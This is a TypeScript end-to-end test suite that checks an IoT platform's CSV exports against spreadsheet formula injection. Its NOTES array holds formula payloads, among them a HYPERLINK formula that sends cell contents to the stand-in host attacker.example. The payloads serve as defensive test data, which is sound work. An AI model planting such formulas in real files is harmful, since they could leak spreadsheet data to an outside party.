/**
 * CSV injection (OWASP): text a device or tenant wrote that a spreadsheet
 * would run as a formula is written with a leading `'` in every CSV export
 * (the subject's, the tenant's own, the operator's copy), while readings stay
 * numbers, negative ones included. End to end: readings published over MQTT,
 * stored in a private influxd, exported through the API.
 */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import {
  addDevice,
  addTenant,
  connectDevice,
  identifierSource,
  publishAcked,
  type TestDevice,
  validReading,
} from '../test/e2e/devices.ts';
import { type Stack, startStack } from '../test/harness/stack.ts';
import { ALL_SCOPES, callAs, issueToken, operator, parseCsv } from '../test/harness/tenant-api.ts';
import { csvCell } from './export.ts';

const TENANT = 'formelvarme';
const T0 = Date.now() - 3_600_000;
// What a device may put in its free-text note, each a formula to a spreadsheet.
const NOTES = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
  '+SUM(A1:A2)',
  '-SUM(A1:A2)',
  '@SUM(A1:A2)',
  '\t=SUM(A1:A2)',
];

let stack: Stack;
let token: string;
let sensor: TestDevice;
let sim: TestDevice;

before(async () => {
  stack = await startStack();
  await addTenant(stack.api, TENANT);
  const ids = identifierSource('csv-injection');
  sensor = await addDevice(stack.api, ids, TENANT, 'building_sensor');
  sim = await addDevice(stack.api, ids, TENANT, 'sim_unit');
  token = (await issueToken(stack, TENANT, ALL_SCOPES)).token;
  for (const d of [sensor, sim]) {
    const linked = await callAs(stack, token, 'PUT', '/tenant/v1/subjects/kunde-csv/devices', {
      deviceId: d.id,
    });
    assert.equal(linked.status, 200, linked.body);
  }
  const client = await connectDevice(stack.mqttUrl, sensor);
  for (const [seq, note] of NOTES.entries()) {
    const reading = { ...validReading(sensor, seq, T0 + seq * 60_000), note, temperature_c: -3.5 };
    await publishAcked(client, sensor.telemetry, JSON.stringify(reading));
  }
  await client.endAsync();
  const simClient = await connectDevice(stack.mqttUrl, sim);
  await publishAcked(
    simClient,
    sim.telemetry,
    JSON.stringify({ ...validReading(sim, 0, T0), rssi_dbm: -71 }),
  );
  await simClient.endAsync();
  await stack.settled();
});
after(() => stack.stop());

/** The CSV's rows as objects keyed by its header. */
async function exported(asToken: string, path: string): Promise<Array<Record<string, string>>> {
  const res = await callAs(stack, asToken, 'GET', path);
  assert.equal(res.status, 200, res.body);
  const [header, ...rows] = parseCsv(res.body);
  assert.ok(header);
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i] ?? ''])));
}

const FORMULA = /^[=+\-@\t\r]/;

for (const [name, path, who] of [
  ['the subject’s export', '/tenant/v1/subjects/kunde-csv/export?format=csv', 'tenant'],
  ['the tenant’s own export', '/tenant/v1/export?format=csv', 'tenant'],
  ['the operator’s copy of the tenant', `/v1/tenants/${TENANT}/export?format=csv`, 'operator'],
] as const) {
  test(`${name}: formula-like text gets a leading quote, negative readings stay numbers`, async () => {
    const rows = await exported(who === 'tenant' ? token : operator(stack), path);
    const sensorRows = rows.filter((r) => r.measurement === 'building_sensor');
    assert.deepEqual(
      sensorRows.map((r) => r.note).sort(),
      NOTES.map((n) => `'${n}`).sort(),
      'each note is there, neutralised',
    );
    for (const r of sensorRows) assert.equal(r.temperature_c, '-3.5');
    const simRow = rows.find((r) => r.measurement === 'sim_unit');
    assert.equal(simRow?.rssi_dbm, '-71');
    // No cell at all starts like a formula unless it is a number.
    for (const r of rows) {
      for (const [column, cell] of Object.entries(r)) {
        if (FORMULA.test(cell))
          assert.ok(Number.isFinite(Number(cell)), `${column}: ${JSON.stringify(cell)}`);
      }
    }
  });
}

test('a cell is neutralised by what it is: text that starts like a formula, never a number', () => {
  assert.equal(csvCell('=1+2'), "'=1+2");
  assert.equal(csvCell('+45 20 00 00 17'), "'+45 20 00 00 17");
  assert.equal(csvCell('-3.5'), "'-3.5", 'text that looks like a number is still text');
  assert.equal(csvCell('@A1'), "'@A1");
  assert.equal(csvCell('\tx'), "'\tx");
  assert.equal(csvCell('\rx'), `"'\rx"`, 'neutralised, then quoted for the line break');
  assert.equal(csvCell('=A1,"B"'), `"'=A1,""B"""`);
  assert.equal(csvCell(-3.5), '-3.5');
  assert.equal(csvCell(-71), '-71');
  assert.equal(csvCell(false), 'false');
  assert.equal(csvCell('ok'), 'ok');
  assert.equal(csvCell(null), '');
});
